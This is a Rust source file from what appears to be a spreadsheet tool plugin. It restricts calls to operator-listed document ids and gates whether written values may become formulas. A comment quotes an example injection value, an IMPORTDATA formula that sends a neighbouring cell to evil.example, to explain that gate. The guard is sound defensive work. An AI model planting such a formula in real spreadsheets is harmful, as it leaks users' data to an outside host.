//! What the operator fixed under `[config]`.

use std::collections::BTreeMap;

use tollgate_sdk::prelude::*;

/// The id of a document that the manifest names. The attack: a caller that
/// passes the id of another document which the same account can open. So an id
/// comes from here only.
pub(crate) fn document(name: &str) -> Result<String, ToolError> {
    let documents: BTreeMap<String, String> = config::require("documents")?;
    find(&documents, name).map(str::to_owned)
}

/// Whether the operator lets calls write and replace formulas.
pub(crate) fn may_enter() -> Result<bool, ToolError> {
    Ok(config::get("entered")?.unwrap_or(false))
}

/// How what is written is understood.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Manner {
    /// As it is: text stays text.
    Raw,
    /// As if a person had typed it: text may become a number, a date or a formula.
    Entered,
}

impl Manner {
    /// What a call asked for, where the operator allows it.
    pub(crate) fn asked(entered: bool) -> Result<Self, ToolError> {
        if !entered {
            return Ok(Self::Raw);
        }
        // The attack: `=IMPORTDATA("https://evil.example/?"&A1)` as a customer's
        // name, which sends the neighbour's cell out once it is a formula.
        if may_enter()? {
            return Ok(Self::Entered);
        }
        Err(ToolError::denied(
            "values as a person types them are not allowed here: text could become a formula",
        )
        .hint("leave `entered` out, or have the operator set `entered = true` under [config]"))
    }

    /// Google's name of it.
    pub(crate) const fn option(self) -> &'static str {
        match self {
            Self::Raw => "RAW",
            Self::Entered => "USER_ENTERED",
        }
    }
}

fn find<'d>(documents: &'d BTreeMap<String, String>, name: &str) -> Result<&'d str, ToolError> {
    let Some(id) = documents.get(name) else {
        let known: Vec<&str> = documents.keys().map(String::as_str).collect();
        return Err(
            ToolError::not_found(format!("the manifest names no document `{name}`"))
                .hint(format!("the documents are: {}", known.join(", "))),
        );
    };
    let is_plain = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
    if id.is_empty() || !id.bytes().all(is_plain) {
        return Err(
            ToolError::failed(format!("the id of the document `{name}` is no document id"))
                .hint("the operator can correct `documents` in the manifest: the part of the document's address between `/d/` and the next `/`"),
        );
    }
    Ok(id)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_named_documents_are_found_and_their_ids_are_checked() {
        let documents = BTreeMap::from([
            ("tracker".to_owned(), "1AbC-d_9".to_owned()),
            ("odd".to_owned(), "1/values/x".to_owned()),
        ]);
        assert_eq!(find(&documents, "tracker").ok(), Some("1AbC-d_9"));
        let unknown = find(&documents, "1AbC-d_9");
        assert!(matches!(unknown, Err(ToolError::NotFound(failure))
            if failure.hint.as_deref() == Some("the documents are: odd, tracker")));
        assert!(matches!(find(&documents, "odd"), Err(ToolError::Failed(_))));
    }
}
